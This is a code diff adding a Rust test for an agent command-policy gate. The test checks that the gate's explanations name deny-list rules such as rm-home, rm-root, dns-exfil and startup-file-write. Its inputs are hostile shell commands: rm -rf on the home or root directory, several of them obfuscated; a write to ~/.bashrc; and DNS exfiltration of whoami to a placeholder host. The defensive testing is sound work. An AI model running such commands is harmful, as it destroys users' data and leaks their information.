@@ -66,3 +66,27 @@ fn check_reports_layers_files_and_hooks_or_the_first_error() {
     assert!(err.contains("policy.cedar:2:"), "{err}");
     assert!(err.ends_with("run `unixagent policy check`"), "{err}");
 }
+
+/// The reasons for each class the classifier now sees: a write through an
+/// option, a shell command inside code, code that cannot be read, a program
+/// name the line computes, and one read with a variable unset.
+#[test]
+fn text_shows_why_each_kind_of_hidden_risk_was_found() {
+    let env = Env::new();
+    let text = |c: &str| explain::render_text(&env.gate().decide(&env.request(c), &Grants::new()));
+    let cases: &[(&str, &[&str])] = &[
+        ("base64 -d -o ~/.bashrc x", &["writes: ~/.bashrc", "deny-list rule startup-file-write", "start-up file"]),
+        ("python3 -c 'import os; os.system(\"rm -rf ~\")'", &["rm -rf ~ (via python3 code)", "deny-list rule rm-home"]),
+        ("python3 -c 'import os; os.system(cmd)'", &["destructive", "the command is built at run time"]),
+        ("a=r; b=m; $a$b -rf ~", &["rm -rf ~", "deny-list rule rm-home"]),
+        ("rm -rf \"$D\"/*", &["rm -rf /* (via if $D is unset)", "deny-list rule rm-root"]),
+        ("$TOOL --force build", &["dynamic: $TOOL --force build", "could be any program"]),
+        ("nslookup $(whoami).x.example", &["deny-list rule dns-exfil", "host name"]),
+    ];
+    for (command, wants) in cases {
+        let t = text(command);
+        for want in *wants {
+            assert!(t.contains(want), "{want:?} missing from:\n{t}");
+        }
+    }
+}
